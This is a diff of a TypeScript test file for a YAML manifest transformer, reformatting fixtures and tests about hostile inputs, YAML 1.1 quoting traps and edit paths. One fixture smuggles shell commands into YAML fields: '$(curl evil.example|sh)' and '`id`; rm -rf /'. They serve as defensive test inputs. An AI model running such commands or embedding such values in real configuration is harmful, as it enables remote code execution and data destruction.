@@ -55,8 +55,9 @@ const HOSTILE: ReadonlyArray<{ name: string; value: string }> = [
   {
     name: 'tags on the keys kube-graceful sets',
     value:
-      'holdApplicationUntilProxyStarts: !!str ' +
-      'true\nterminationDrainDuration: !!str 5s\ndrainDuration: !!int 5\n',
+      'holdApplicationUntilProxyStarts: !!str true\n' +
+      'terminationDrainDuration: !!str 5s\n' +
+      'drainDuration: !!int 5\n',
   },
   { name: 'two documents', value: 'concurrency: 2\n---\nholdApplicationUntilProxyStarts: false\n' },
   {
@@ -68,8 +69,8 @@ const HOSTILE: ReadonlyArray<{ name: string; value: string }> = [
   {
     name: 'shell metacharacters inside valid fields',
     value:
-      'tracing: {zipkin: {address: "$(curl ' +
-      'evil.example|sh):9411"}}\nproxyMetadata: {HOOK: "`id`; rm -rf /"}\n',
+      'tracing: {zipkin: {address: "$(curl evil.example|sh):9411"}}\n' +
+      'proxyMetadata: {HOOK: "`id`; rm -rf /"}\n',
   },
   { name: 'a list', value: '- holdApplicationUntilProxyStarts: true\n' },
   { name: 'proxyMetadata as a list', value: 'proxyMetadata: [EXIT_ON_ZERO_ACTIVE_CONNECTIONS]\n' },
@@ -306,20 +307,16 @@ for (const scenario of SCENARIOS) {
   }
 }
 
-test(
-  'each scenario writes the annotation when its value is a plain mapping (the merges above ' +
-    'are real)',
-  (t) => {
-    for (const scenario of SCENARIOS) {
-      const result = transform(stringify(scenario.object('concurrency: 2\n'), { version: '1.1' }), {
-        flags: scenario.flags,
-      });
-      const after = annotationOf(result.output);
-      t.not(after, 'concurrency: 2\n', scenario.name);
-      t.is(mapping(String(after))?.['concurrency'], 2, `${scenario.name}: concurrency kept`);
-    }
-  },
-);
+test('each scenario writes the annotation when its value is a plain mapping (the merges above are real)', (t) => {
+  for (const scenario of SCENARIOS) {
+    const result = transform(stringify(scenario.object('concurrency: 2\n'), { version: '1.1' }), {
+      flags: scenario.flags,
+    });
+    const after = annotationOf(result.output);
+    t.not(after, 'concurrency: 2\n', scenario.name);
+    t.is(mapping(String(after))?.['concurrency'], 2, `${scenario.name}: concurrency kept`);
+  }
+});
 
 // ---------------------------------------------------------------------------------------------
 // Written values keep their type under a full YAML 1.1 reader
@@ -450,10 +447,15 @@ const EDIT_PATHS: Record<string, string> = {
   'block document (new keys, replaced plain and quoted scalars)': POD,
   'JSON document': JSON.stringify(readData(POD)),
   'kind: List item':
-    `apiVersion: v1\nkind: List\nitems:\n- ${POD.trimEnd().split('\n').join('\n  ')}` + `\n`,
+    `apiVersion: v1\n` +
+    `kind: List\n` +
+    `items:\n` +
+    `- ${POD.trimEnd().split('\n').join('\n  ')}\n`,
   'ResourceList item':
-    `apiVersion: config.kubernetes.io/v1\nkind: ResourceList\nitems:\n- ${POD.trimEnd().split('\n').join('\n  ')}` +
-    `\n`,
+    `apiVersion: config.kubernetes.io/v1\n` +
+    `kind: ResourceList\n` +
+    `items:\n` +
+    `- ${POD.trimEnd().split('\n').join('\n  ')}\n`,
   'CRLF document': POD.replace(/\n/g, '\r\n'),
   // An explicit key (`? existing`) defeats the text splice; the tree fallback prints the document.
   'syntax-tree fallback': POD.replace('    existing: "kept"\n', '    ? existing\n    : "kept"\n'),
@@ -479,22 +481,17 @@ for (const [name, input] of Object.entries(EDIT_PATHS)) {
   });
 }
 
-test(
-  'YAML 1.1 traps are quoted where they are written (regression: ' +
-    '1:30 and 2001-01-01 went out plain)',
-  (t) => {
-    const { output } = transform(POD, { mutators: [trapWriter] });
-    for (const trap of ['1:30', '190:20:30', '2001-01-01'])
-      t.true(output.includes(`"${trap}"`), `${trap} is quoted`);
-    t.false(/^\s*- 1:30$/m.test(output), 'no plain 1:30 list item');
-    t.is(
-      typeof (
-        parseDocument(output, { version: '1.1' }).toJS() as { metadata: { annotations: Obj } }
-      ).metadata.annotations['trap.example/13'],
-      'string',
-    );
-  },
-);
+test('YAML 1.1 traps are quoted where they are written (regression: 1:30 and 2001-01-01 went out plain)', (t) => {
+  const { output } = transform(POD, { mutators: [trapWriter] });
+  for (const trap of ['1:30', '190:20:30', '2001-01-01'])
+    t.true(output.includes(`"${trap}"`), `${trap} is quoted`);
+  t.false(/^\s*- 1:30$/m.test(output), 'no plain 1:30 list item');
+  t.is(
+    typeof (parseDocument(output, { version: '1.1' }).toJS() as { metadata: { annotations: Obj } })
+      .metadata.annotations['trap.example/13'],
+    'string',
+  );
+});
 
 test('every generated tricky string survives as a written value', (t) => {
   // TRICKY_STRINGS also drive the property tests' generated manifests (arbitraries.ts).
